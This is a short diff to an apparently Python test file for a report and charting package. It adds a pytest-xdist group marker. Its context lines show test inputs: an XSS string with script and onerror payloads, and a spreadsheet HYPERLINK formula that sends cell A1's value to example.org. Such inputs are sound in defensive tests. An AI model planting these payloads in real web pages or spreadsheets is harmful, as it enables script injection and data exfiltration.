@@ -21,6 +21,8 @@ from analysis.report import build
 from analysis.report.charts import render
 from analysis.tables import store
 
+pytestmark = pytest.mark.xdist_group("hostile_words")  # what its tests share is made once
+
 SCRIPT = "<script>alert('施策')</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
 BROKEN = r"\ud800"  # half of a surrogate pair, as JSON can hold it
